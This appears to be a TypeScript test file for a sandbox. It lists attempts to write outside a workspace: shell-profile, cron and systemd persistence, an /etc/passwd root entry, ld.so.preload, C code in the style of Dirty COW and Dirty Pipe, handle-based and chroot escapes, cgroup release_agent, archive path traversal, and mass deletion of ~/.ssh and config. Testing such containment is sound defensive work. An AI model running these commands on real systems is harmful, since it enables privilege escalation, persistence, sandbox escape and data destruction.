import { inC, inNode, inPython, table } from './hostile.ts'

/** They want to change what lies outside of the workspace. */
export const writing = [
  ...table('writing outside', {
    'a profile, by sed, tee, dd, cp and install':
      'sed -i 1ix ~/.bashrc; echo x | tee -a ~/.zshrc; dd if=package.json of={HOME}/.profile; cp package.json ~/.vimrc; install -m 755 package.json ~/.local/bin/mine; truncate -s0 ~/.condarc',
    'what starts with the session of the user':
      'mkdir -p ~/.config/systemd/user ~/.config/autostart; echo x > ~/.config/autostart/a.desktop; echo x > ~/.config/systemd/user/{MARK}.service; echo x > ~/.pam_environment; echo x > ~/.xsessionrc',
    'the jobs of cron and at':
      'echo "* * * * * touch /tmp/{MARK}" | crontab -; echo x > /etc/cron.d/{MARK}; echo x > /var/spool/cron/crontabs/root; echo "touch {OPEN}/x" | at now; mkdir -p /etc/systemd/system && echo x > /etc/systemd/system/{MARK}.service',
    'programs of the system':
      'cp package.json /usr/bin/{MARK}; cp package.json /usr/local/bin/{MARK}; echo x >> /etc/ld.so.preload; echo x >> /etc/profile; ln -sf /bin/sh /usr/local/bin/{MARK}; echo "x::0:0::/:/bin/sh" >> /etc/passwd',
    'the folder above and the one beside':
      'echo x > ../.env; echo x > ../sibling/x; echo x > {WORK}/.envrc; mkdir ../new; cd .. && npm pkg set a=b --prefix sibling',
    'git of another project':
      'git -C ../sibling config core.fsmonitor "{SPRING} ;"; git -C ../sibling commit --allow-empty -m x; printf "#!/bin/sh\\n{SPRING}\\n" > ../sibling/.git/hooks/pre-commit; git clone -q . ../clone',
    'settings of git for all projects':
      'git config --global core.fsmonitor "{SPRING} ;"; git config --system core.pager "{SPRING}"; echo "[core]" >> ~/.gitmore; mkdir -p ~/.config/git && echo "[core]" > ~/.config/git/config',
    'a file with a capability from the beginning': inPython(`
import os
for p in ('{OPEN}/file','{HOME}/.bashrc'):
  for f in (os.O_WRONLY,os.O_RDWR,os.O_WRONLY|os.O_TRUNC,os.O_RDWR|os.O_APPEND):
    try: os.write(os.open(p,f),b'x')
    except OSError as e: print(e)
  try: os.truncate(p,0)
  except OSError as e: print(e)
  try: os.utime(p); os.chmod(p,0o777); os.chown(p,0,0)
  except OSError as e: print(e)`),
    'a descriptor that was opened for reading': inPython(`
import os
for p in ('{OPEN}/file','{OPEN}','/'):
  fd=os.open(p,os.O_RDONLY)
  for q in ('/proc/self/fd/%d'%fd,'/dev/fd/%d'%fd,'/proc/self/root{OPEN}/file','/proc/thread-self/fd/%d'%fd):
    try: os.write(os.open(q,os.O_WRONLY),b'x')
    except OSError as e: print(e)
    try: open(q+'/{MARK}','w')
    except OSError as e: print(e)`),
    'a file without a name is linked into a place': inPython(`
import os
for d in ('{OPEN}','{HOME}','/tmp','.'):
  try:
    fd=os.open(d,os.O_TMPFILE|os.O_RDWR); os.write(fd,b'x')
    os.link('/proc/self/fd/%d'%fd,'{OPEN}/{MARK}',src_dir_fd=fd,follow_symlinks=True)
  except OSError as e: print(d,e)`),
    'bytes are moved by the kernel': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <linux/fs.h>
#include <unistd.h>
int main(){ int a=open("package.json",O_RDONLY), r=open("{OPEN}/file",O_RDONLY), w=open("{OPEN}/file",O_RDWR); perror("open");
 copy_file_range(a,0,r,0,4,0); perror("copy"); sendfile(r,a,0,4); perror("sendfile"); int p[2]; pipe(p); write(p[1],"x",1); splice(p[0],0,r,0,1,0); perror("splice");
 tee(p[0],r,1,0); vmsplice(r,0,0,0); ioctl(r,FICLONE,a); perror("clone"); int f=FS_IMMUTABLE_FL; ioctl(r,FS_IOC_SETFLAGS,&f); perror("flags"); fallocate(r,0,0,9); perror("allocate"); if(w>=0) puts("opened"); }`),
    'a descriptor by a handle': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(){ struct file_handle*h=malloc(sizeof*h+128); h->handle_bytes=128; int m; if(name_to_handle_at(AT_FDCWD,"{ROOT}",h,&m,0)) perror("name");
 int d=open("{ROOT}",O_RDONLY); int f=open_by_handle_at(d,h,O_RDWR); perror("open"); unsigned char b[]={2,0,0,0,0,0,0,0}; h->handle_bytes=8; h->handle_type=1; for(int i=0;i<8;i++)h->f_handle[i]=b[i];
 f=open_by_handle_at(d,h,O_RDONLY); perror("root"); if(f>=0){ puts("got the root"); int o=openat(f,"tmp",O_RDONLY);} }`),
    'the page cache behind a pipe': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <stdio.h>
int main(){ int p[2]; pipe(p); static char b[4096]; int n=fcntl(p[1],F_GETPIPE_SZ); for(int i=n;i>0;i-=4096) write(p[1],b,4096); for(int i=n;i>0;i-=4096) read(p[0],b,4096);
 int f=open("{OPEN}/file",O_RDONLY); loff_t o=0; splice(f,&o,p[1],0,1,0); write(p[1],"XXX",3); puts("tried"); }`),
    'a private copy is made public': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
static void*map; static volatile int stop;
static void*drop(void*x){ while(!stop) madvise(map,100,MADV_DONTNEED); return 0; }
int main(){ int f=open("{OPEN}/file",O_RDONLY), m=open("/proc/self/mem",O_RDWR); map=mmap(0,100,PROT_READ,MAP_PRIVATE,f,0); pthread_t t; pthread_create(&t,0,drop,0);
 for(int i=0;i<3000;i++){ lseek(m,(off_t)map,0); write(m,"PWN",3);} stop=1; pthread_join(t,0); mprotect(map,100,3); mmap(0,100,3,MAP_SHARED,f,0); perror("shared"); }`),
    'links that change while they are followed': inPython(`
import os, threading, time
os.mkdir('/tmp/real'); os.symlink('/tmp/real','swap'); stop=time.time()+0.6
def flip():
  while time.time()<stop:
    for t in ('{OPEN}','/tmp/real'):
      os.symlink(t,'swap.new'); os.rename('swap.new','swap')
th=threading.Thread(target=flip); th.start()
while time.time()<stop:
  try: open('swap/{MARK}','w').write('x')
  except OSError: pass
th.join()`),
    'two names are exchanged in one step': inPython(`
import ctypes, os
l=ctypes.CDLL(None,use_errno=True)
for a,b in ((b'src',b'{OPEN}'),(b'package.json',b'{OPEN}/file'),(b'{OPEN}',b'{HOME}'),(b'{ROOT}',b'{WORK}/sibling')):
  for flags in (0,1,2): print(l.renameat2(-100,a,-100,b,flags), os.strerror(ctypes.get_errno()))`),
    'the root is left by a nested one': inC(`
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(){ printf("%d ",unshare(CLONE_NEWUSER|CLONE_NEWNS)); mkdir("/tmp/jail",0755); int d=open("/",O_RDONLY); printf("%d ",chroot("/tmp/jail")); fchdir(d); for(int i=0;i<40;i++) chdir(".."); chroot(".");
 int f=open("{OPEN}/{MARK}" + 1,O_CREAT|O_WRONLY,0644); printf("%d",f); f=open("{OPEN}/{MARK}",O_CREAT|O_WRONLY,0644); perror("open"); }`),
    'make, cmake and ninja write outside': {
      run: 'make -f evil.mk; mkdir -p b && cd b && timeout 15 cmake -S .. -B . >/dev/null; true',
      files: {
        'evil.mk': 'all:\n\techo x >> {OPEN}/file\n\tcp evil.mk {HOME}/.profile\n',
        'CMakeLists.txt':
          'file(WRITE {OPEN}/{MARK} x)\nfile(APPEND {HOME}/.bashrc x)\nexecute_process(COMMAND touch {OPEN}/{MARK})\nproject(x NONE)\n',
      },
    },
    'a test runner of node writes outside': {
      run: 'node --test x.test.mjs; npm test',
      files: {
        'x.test.mjs': `import fs from 'node:fs'; import test from 'node:test'; test('x', () => { fs.writeFileSync('{HOME}/.npmrc', 'x'); fs.rmSync('{OPEN}', { recursive: true }) })\n`,
        'package.json': `{ "name": "p", "scripts": { "pretest": "echo x >> ~/.bashrc", "test": "rm -rf {OPEN}/file; mv {OPEN} {OPEN}2" } }`,
      },
    },
    'python as a module with settings of its own': {
      run: '/usr/bin/python3 -m pip install --user --no-index ./pkg; /usr/bin/python3 setup.py -q install --user; /usr/bin/python3 -m site --user-site; PYTHONUSERBASE={OPEN} /usr/bin/python3 -m compileall -q src',
      files: { 'setup.py': 'open("{OPEN}/{MARK}","w")\n', 'pkg/setup.py': 'open("{HOME}/.bashrc","a").write("x")\n' },
    },
    'cargo builds a script that writes outside': {
      run: 'timeout 15 cargo build --offline -q; mkdir -p ~/.cargo && echo x > ~/.cargo/config.toml; echo x > {BASE}/settings/cargo/config.toml',
      files: {
        'Cargo.toml': '[package]\nname = "c"\nversion = "0.1.0"\nedition = "2021"\n',
        'build.rs': 'fn main() { let _ = std::fs::write("{OPEN}/{MARK}", "x"); }\n',
        'src/lib.rs': '',
      },
    },
    'go generates outside': {
      run: 'cd g && GOFLAGS=-mod=mod timeout 15 go generate ./...; timeout 15 go vet -vettool=./evil.sh ./...; true',
      files: {
        'g/go.mod': 'module g\n\ngo 1.19\n',
        'g/g.go': 'package g\n\n//go:generate sh -c "echo x >> {OPEN}/file"\n',
        'g/evil.sh': 'echo x >> {OPEN}/file\n',
      },
    },
    'an archive with paths that lead out': inPython(`
import io, tarfile, zipfile
t=tarfile.open('/tmp/a.tar','w')
for n in ('../../../../../../../..{OPEN}/{MARK}','{OPEN}/{MARK}'):
  i=tarfile.TarInfo(n); i.size=1; t.addfile(i,io.BytesIO(b'x'))
i=tarfile.TarInfo('out'); i.type=tarfile.SYMTYPE; i.linkname='{OPEN}'; t.addfile(i)
i=tarfile.TarInfo('out/{MARK}'); i.size=1; t.addfile(i,io.BytesIO(b'x')); t.close()
z=zipfile.ZipFile('/tmp/a.zip','w'); z.writestr('../../../../../../../..{OPEN}/{MARK}','x'); z.close()
import os
os.system('tar -xPf /tmp/a.tar; tar -xf /tmp/a.tar; unzip -qo /tmp/a.zip; unzip -:qo /tmp/a.zip')`),
    'a patch that leads out': {
      run: 'patch -p0 < evil.patch; git apply --unsafe-paths evil.patch; git apply --directory={OPEN} evil.patch',
      files: { 'evil.patch': '--- {OPEN}/file\n+++ {OPEN}/file\n@@ -1 +1 @@\n-open\n+evil\n' },
    },
    'a database is attached outside': `sqlite3 /tmp/x.db "attach '{OPEN}/{MARK}' as o; create table o.t(a);" ".output {OPEN}/{MARK}" "select 1" ".backup {OPEN}/{MARK}"; sqlite3 {HOME}/.mozilla/cookies.sqlite "create table t(a)"`,
    'editors and pagers':
      'vim -es -c "w! {OPEN}/{MARK}" -c q! package.json; ed -s {OPEN}/file <<< $(printf "a\\nx\\n.\\nw"); ex -s -c "w! {OPEN}/{MARK}" -c q! package.json; echo x | less -o {OPEN}/{MARK}; true',
    'everything that is not the workspace is deleted': `find {OPEN} {HOME}/.ssh {HOME}/.config {BASE}/settings -delete; find {HOME} -maxdepth 1 -type f -exec rm -f {} +; rm -rf {WORK}/sibling; rmdir {BASE}`,
    'names with odd letters and of great length': inPython(`
import os
for n in ('{MARK}\\n','{MARK}\\x1b[2J','x'*200,'../open/{MARK}','./../../../open/{MARK}'):
  for b in ('{OPEN}/','{WORK}/'):
    try: open(b+n,'w')
    except OSError as e: print(e)`),
    'marks of the system':
      'touch /etc/{MARK} /usr/{MARK} /opt/{MARK} /srv/{MARK} /var/{MARK} /boot/{MARK} /mnt/{MARK} /media/{MARK} /{MARK} /home/{MARK} ~root/{MARK} /var/log/{MARK} /var/lib/{MARK}; mkdir /var/cache/{MARK}; date -s 2001-01-01; hostname {MARK}',
    'the groups of control':
      'mkdir /sys/fs/cgroup/{MARK}; for c in /sys/fs/cgroup/*; do mkdir $c/{MARK}; echo 1 > $c/tasks; echo max > $c/pids.max; done; unshare -UrmC sh -c "mount -t cgroup2 none /mnt && mkdir /mnt/{MARK}; mount -t cgroup -o rdma c /mnt && echo /tmp/x > /mnt/release_agent"',
    'shared memory, queues and their like': inPython(`
import ctypes, os
open('/dev/shm/{MARK}','w').write('x')
try: open('/dev/mqueue/{MARK}','w')
except OSError as e: print(e)
l=ctypes.CDLL(None,use_errno=True)
print(l.shmget(0x7a11,4096,0o1666), l.semget(0x7a11,1,0o1666), l.msgget(0x7a11,0o1666))`),
    'settings of the kernel':
      'for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/hostname /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/sys/fs/binfmt_misc/register /sys/kernel/mm/transparent_hugepage/enabled /sys/power/state /sys/kernel/uevent_helper; do cat $f > /tmp/v 2>/dev/null; cat /tmp/v > $f && echo wrote $f; done; sysctl -w vm.overcommit_memory=1',
    devices:
      'ls /dev; for d in mem kmem sda sda1 vda nvme0n1 loop0 loop-control fuse kvm net/tun uinput kmsg port; do head -c1 /dev/$d && echo read $d; echo x > /dev/$d && echo wrote $d; done; mknod /tmp/d b 8 0; mknod d c 1 1; cat d /tmp/d; losetup -f package.json',
    'the folder of the walls themselves':
      'ls -la {HOME}/.local/state/loader; find {BASE} -name set-aside 2>/dev/null; cat /proc/self/mountinfo | tr " " "\\n" | grep scratch | sort -u | while read p; do echo x > "$p/{MARK}"; rm -rf "$p"; done; echo x > {HOME}/.local/state/loader/scratch/{MARK}; rm -rf {HOME}/.local/state',
    'node with its own loader': inNode(`
const fs = require('fs')
for (const p of ['{OPEN}/file', '{HOME}/.bashrc', '{HOME}/.config/autostart/a.desktop', '/etc/hosts']) {
  for (const f of [() => fs.writeFileSync(p, 'x'), () => fs.truncateSync(p), () => fs.unlinkSync(p), () => fs.renameSync(p, p + 2), () => fs.copyFileSync('package.json', p), () => fs.linkSync(p, 'linked'), () => fs.appendFileSync('linked', 'x'), () => fs.lutimesSync(p, 1, 1), () => fs.cpSync('src', p + '{MARK}', { recursive: true })])
    try { f() } catch (e) { console.log(e.code) }
}`),
    'packages of the home folder':
      'npm install -g --offline . ; npm link; npm config set prefix {OPEN}; npm config set --location=user registry http://x; pnpm config set store-dir {OPEN}; corepack enable --install-directory {OPEN}; gem install --user x; true',
  }),
]
